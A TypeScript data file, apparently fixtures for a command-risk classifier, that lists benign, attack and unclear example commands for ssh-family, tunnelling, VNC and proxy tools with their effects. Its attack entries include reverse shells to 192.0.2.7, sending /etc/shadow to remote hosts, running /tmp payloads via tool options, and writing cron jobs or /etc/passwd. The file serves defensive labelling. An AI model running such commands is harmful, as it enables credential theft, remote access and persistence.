import type { ExampleTable } from './example.ts'

export const remoteAccess1: ExampleTable = {
  clush: {
    use: 'clush -w node1,node2 cat notes.txt → read notes.txt; send node1,node2',
    attack: [
      'clush -w node1 cat /etc/shadow → read /etc/shadow; send node1',
      'clush --hostfile=/etc/shadow uptime → read /etc/shadow',
    ],
    unclear: [`clush -a -c x --dest /usr/local/bin/ → what many machines run from then on`],
  },
  dbclient: {
    use: 'dbclient db.example.org cat notes.txt → read notes.txt; send db.example.org',
    attack: [
      'dbclient db.example.org cat /etc/shadow → read /etc/shadow; send db.example.org',
      'dbclient -J /tmp/x db.example.org cat notes.txt → run /tmp/x; read notes.txt; send db.example.org',
    ],
    unclear: [`dbclient -R 2022:localhost:22 ops@box.example.org → who comes in by it`],
  },
  dsh: {
    use: 'dsh -m web1 cat notes.txt → read notes.txt; send web1',
    attack: [
      'dsh -r /tmp/x -m web1 uptime → run /tmp/x; send web1',
      'dsh -m web1 cat /etc/shadow → read /etc/shadow; send web1',
    ],
  },
  et: {
    use: `et db.example.org -c 'cat notes.txt' → read notes.txt; send db.example.org`,
    attack: [
      `et db.example.org -c 'cat /etc/shadow' → read /etc/shadow; send db.example.org`,
      'et localhost:2022 → shell bash; send localhost:2022',
    ],
    unclear: [`et -r 2022:22 box.example.org:2022 → who comes in by it`],
  },
  mosh: {
    use: 'mosh db.example.org -- cat notes.txt → read notes.txt; send db.example.org',
    attack: [
      'mosh db.example.org -- cat /etc/shadow → read /etc/shadow; send db.example.org',
      'mosh --ssh=/tmp/x db.example.org → run /tmp/x; send db.example.org',
    ],
  },
  mssh: {
    use: 'mssh db.example.org → send db.example.org',
    attack: 'mssh 127.1 → shell bash; send 127.1',
  },
  pdsh: {
    use: 'pdsh -w web1 cat notes.txt → read notes.txt; send web1',
    attack: 'pdsh -w web1 cat /etc/shadow → read /etc/shadow; send web1',
  },
  plink: {
    use: 'plink -pw secret db.example.org cat notes.txt → read notes.txt; send db.example.org',
    attack: [
      'plink db.example.org cat /etc/shadow → read /etc/shadow; send db.example.org',
      'plink -m /etc/shadow db.example.org → read /etc/shadow; send db.example.org',
      'plink -proxycmd /tmp/x db.example.org → run /tmp/x; send db.example.org',
    ],
    unclear: [`plink -batch -R 13389:127.0.0.1:3389 ops@box.example.org → who comes in by it`],
  },
  pssh: {
    use: 'pssh -h hosts.txt -i cat notes.txt → read hosts.txt; read notes.txt',
    attack: [
      'pssh -h hosts.txt -i cat /etc/shadow → read hosts.txt; read /etc/shadow',
      'pssh -h /etc/shadow uptime → read /etc/shadow',
    ],
  },
  rexec: {
    use: 'rexec db.example.org cat notes.txt → read notes.txt; send db.example.org',
    attack: 'rexec db.example.org cat /etc/shadow → read /etc/shadow; send db.example.org',
  },
  rlogin: {
    use: 'rlogin -l ann db.example.org → send db.example.org',
    attack: 'rlogin -l "$(cat /etc/passwd)" 192.0.2.7 → send 192.0.2.7',
  },
  rsh: {
    use: 'rsh db.example.org cat notes.txt → read notes.txt; send db.example.org',
    attack: 'rsh db.example.org cat /etc/shadow → read /etc/shadow; send db.example.org',
  },
  sexec: {
    use: `sexec db.example.org 'cat notes.txt' → read notes.txt; send db.example.org`,
    attack: `sexec db.example.org 'cat /etc/shadow' → read /etc/shadow; send db.example.org`,
  },
  'ssh-copy-id': {
    use: 'ssh-copy-id -i ann.pub ann@example.org → read ann.pub; send ann@example.org',
    attack: [
      'ssh-copy-id -f -i eve.pub root@localhost → privilege ssh-copy-id; read eve.pub; send root@localhost',
      'ssh-copy-id -F /etc/shadow ann@example.org → read /etc/shadow; send ann@example.org',
    ],
  },
  sshpass: {
    use: 'sshpass -f pass.txt ssh db.example.org uptime → connect db.example.org',
    attack: 'sshpass -p secret bash → shell bash',
  },
  telnet: {
    use: 'telnet db.example.org 23 → send db.example.org',
    attack: 'telnet -n /etc/cron.d/job 192.0.2.7 23 → send 192.0.2.7; write /etc/cron.d/job',
  },
  cryptcat: { use: 'cryptcat db.example.org 80 → fetch db.example.org:80' },
  dnscat: {
    use: 'dnscat db.example.org → fetch db.example.org',
    attack: 'dnscat --exec /bin/sh 192.0.2.7 → remote-shell 192.0.2.7',
  },
  dnscat2: { use: 'dnscat2 db.example.org → fetch db.example.org' },
  fwknop: { use: 'fwknop -A tcp/22 -a 192.0.2.9 -D db.example.org → send db.example.org' },
  'gnutls-cli': {
    use: 'gnutls-cli --save-cert=server.pem db.example.org → send db.example.org; write server.pem',
    attack: [
      'gnutls-cli --save-cert=/etc/passwd db.example.org → send db.example.org; write /etc/passwd',
      'gnutls-cli --logfile=/etc/cron.d/job db.example.org → send db.example.org; write /etc/cron.d/job',
    ],
  },
  'gnutls-serv': {
    use: 'gnutls-serv --port 8443 --x509keyfile server.key --x509certfile server.pem → listen 8443',
    attack: 'gnutls-serv --provider=/tmp/x.so → load /tmp/x.so; listen 5556',
  },
  'gs-netcat': { attack: 'gs-netcat -s secret -l -i → remote-shell gs-netcat' },
  gsocket: {
    use: 'gsocket -s secret cat notes.txt → read notes.txt',
    attack: [
      'gsocket -s secret cat /etc/shadow → read /etc/shadow',
      'gsocket -s secret bash → shell bash',
    ],
  },
  hose: {
    use: 'hose db.example.org 80 --out cat notes.txt → read notes.txt; send db.example.org',
    attack: [
      'hose 192.0.2.7 443 --out cat /etc/shadow → read /etc/shadow; send 192.0.2.7',
      'hose 192.0.2.7 443 --slave bash → shell bash; send 192.0.2.7',
    ],
  },
  knock: { use: 'knock db.example.org 7000 8000 → send db.example.org' },
  pwncat: { use: 'pwncat db.example.org 80 → fetch db.example.org:80' },
  'pwncat-cs': { attack: 'pwncat-cs -lp 4444 → session pwncat-cs' },
  rcat: { use: 'rcat → nothing' },
  sbd: { use: 'sbd db.example.org 80 → fetch db.example.org:80' },
  tcpclient: {
    use: 'tcpclient db.example.org 80 cat notes.txt → read notes.txt; send db.example.org',
    attack: [
      'tcpclient 192.0.2.7 443 cat /etc/shadow → read /etc/shadow; send 192.0.2.7',
      'tcpclient 192.0.2.7 443 bash → shell bash; send 192.0.2.7',
    ],
  },
  krdc: { use: 'krdc rdp://db.example.org → send rdp://db.example.org' },
  novnc: { use: 'novnc --listen 6080 --vnc localhost:5900 → listen 6080' },
  rdesktop: {
    use: 'rdesktop db.example.org → send db.example.org',
    unclear:
      'rdesktop -r disk:home=/home/tim term.example.org → who reads the folder that it shares',
  },
  vncpasswd: {
    use: 'vncpasswd .vnc/passwd → write .vnc/passwd',
    attack: 'vncpasswd /etc/passwd → write /etc/passwd',
  },
  vncserver: {
    use: 'vncserver :1 -geometry 1280x800 → listen 5901',
    attack: 'vncserver :1 -xstartup /tmp/x.sh → run /tmp/x.sh; read /tmp/x.sh; listen 5901',
  },
  vncviewer: { use: 'vncviewer db.example.org → send db.example.org' },
  wayvnc: { use: 'wayvnc → listen 5900' },
  x0vncserver: { use: 'x0vncserver → listen 5900' },
  x11vnc: {
    use: 'x11vnc -display :0 -rfbauth .vnc/passwd → listen 5900',
    attack: [
      'x11vnc -gone /tmp/x → run /tmp/x; listen 5900',
      `x11vnc -afteraccept 'cat /etc/shadow' → read /etc/shadow; listen 5900`,
    ],
  },
  xpra: {
    use: `xpra start :100 --start='cat notes.txt' → read notes.txt`,
    attack: [
      'xpra start :100 --start=/tmp/x → run /tmp/x',
      `xpra start :100 --start='cat /etc/shadow' → read /etc/shadow`,
    ],
  },
  xrdp: { use: 'xrdp → listen 3389' },
  Xvnc: { use: 'Xvnc → listen 5900' },
  bore: { use: 'bore local 8000 --to bore.pub → listen bore' },
  chisel: { use: 'chisel server --port 8080 → listen chisel' },
  cloudflared: {
    use: 'cloudflared tunnel --url http://localhost:8000 → listen cloudflared',
    unclear: 'cloudflared service install eyJh → what leads through the tunnel',
  },
  corkscrew: {
    use: 'corkscrew proxy.example.org 8080 db.example.org 22 auth.txt → send proxy.example.org',
  },
  dns2tcp: { use: 'dns2tcp -z t1.example.org -r ssh → listen dns2tcp' },
  frpc: { use: 'frpc -c frpc.toml → read frpc.toml; listen frpc' },
  frps: { use: 'frps -c frps.toml → read frps.toml; listen' },
  gost: { use: 'gost -L :8080 → listen gost' },
  htc: {
    use: 'htc -F 2222 db.example.org:8888 → listen 2222; listen htc; send db.example.org:8888',
  },
  hts: { use: 'hts -F localhost:22 8888 → listen; send localhost:22' },
  icmptunnel: { use: 'icmptunnel -s → listen icmptunnel' },
  iodine: { use: 'iodine -P secret t1.example.org → listen iodine' },
  iodined: { use: 'iodined -P secret 10.0.0.1 t1.example.org → listen 53' },
  localtunnel: { use: 'localtunnel --port 8000 → listen localtunnel' },
  ngrok: {
    use: 'ngrok config check → listen ngrok',
    unclear: 'ngrok http 3000 → who comes in by it',
  },
  pagekite: { use: 'pagekite 8000 ann.pagekite.me → listen pagekite' },
  proxytunnel: {
    use: 'proxytunnel -p proxy.example.org:8080 -d db.example.org:22 → send proxy.example.org:8080',
  },
  ptunnel: { use: 'ptunnel -p db.example.org -lp 8000 -da db.example.org -dp 22 → listen ptunnel' },
  'ptunnel-ng': { use: 'ptunnel-ng -p db.example.org -l 8000 → listen ptunnel-ng' },
  rathole: {
    use: 'rathole client.toml → read client.toml; listen rathole',
    attack: 'rathole /etc/shadow → read /etc/shadow; listen rathole',
  },
  revsocks: { use: 'revsocks -listen :8443 -socks 127.0.0.1:1080 -pass secret → listen revsocks' },
  ser2net: {
    use: 'ser2net -c ser2net.yaml → read ser2net.yaml; listen 2000',
    attack: 'ser2net -P /etc/cron.d/job → listen 2000; write /etc/cron.d/job',
  },
  ssf: { use: 'ssf -D 9000 db.example.org → listen ssf' },
  sshuttle: {
    use: 'sshuttle -r ann@db.example.org 10.0.0.0/8 → send ann@db.example.org',
    attack: [
      'sshuttle -e /tmp/x -r ann@db.example.org 10.0.0.0/8 → run /tmp/x; send ann@db.example.org',
      'sshuttle -r ann@db.example.org -s /etc/shadow → read /etc/shadow; send ann@db.example.org',
    ],
  },
  sslh: { use: 'sslh → listen' },
  stunnel: {
    use: 'stunnel stunnel.conf → read stunnel.conf',
    attack: [
      'stunnel /tmp/stunnel.conf → run /tmp/stunnel.conf',
      'stunnel /etc/shadow → read /etc/shadow',
    ],
    unclear: [
      `stunnel -d 2375 -r /var/run/docker.sock → what the socket is asked for, and by whom`,
    ],
  },
  telebit: { use: 'telebit http 8000 → listen telebit' },
  zrok: { use: 'zrok share public http://localhost:8000 → listen zrok' },
  '3proxy': {
    use: '3proxy 3proxy.cfg → read 3proxy.cfg; listen',
    attack: '3proxy /tmp/3proxy.cfg → run /tmp/3proxy.cfg; listen',
  },
  microsocks: { use: 'microsocks → listen 1080' },
  mitmdump: {
    unclear: [`mitmdump -w flows.bin → whose traffic it reads`],
    use: 'mitmdump -s addon.py -w flows.mitm → read addon.py; listen 8080; write flows.mitm',
    attack: [
      'mitmdump -s /etc/shadow → read /etc/shadow; listen 8080',
      'mitmdump -w /etc/cron.d/job → listen 8080; write /etc/cron.d/job',
    ],
  },
  mitmproxy: {
    unclear: [`mitmproxy → whose traffic it reads`],
    use: 'mitmproxy -s addon.py → read addon.py',
    attack: [
      'mitmproxy -s /etc/shadow → read /etc/shadow',
      'mitmproxy -w /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  nyx: { use: 'nyx -c nyxrc → read nyxrc' },
  privoxy: {
    use: 'privoxy privoxy.conf → read privoxy.conf; listen 8118',
    attack: 'privoxy /etc/shadow → read /etc/shadow; listen 8118',
  },
  redsocks: {
    use: 'redsocks -c redsocks.conf → read redsocks.conf',
    attack: 'redsocks -c /etc/shadow → read /etc/shadow',
  },
  'rcat connect': { attack: 'rcat connect -s bash 192.0.2.7 443 → run bash' },
  'rcat listen': { attack: 'rcat listen -e /tmp/x 4444 → run /tmp/x' },
  socket: {
    use: 'socket db.example.org 80 → send db.example.org',
    attack: 'socket -p /tmp/x 192.0.2.7 443 → run /tmp/x; send 192.0.2.7',
  },
  websockify: {
    use: 'websockify 6080 localhost:5900 → listen; send localhost:5900',
    attack:
      'websockify --log-file=/etc/cron.d/job 6080 localhost:5900 → listen; write /etc/cron.d/job',
  },
  cssh: { use: 'cssh web1 web2 → send web1; send web2' },
}
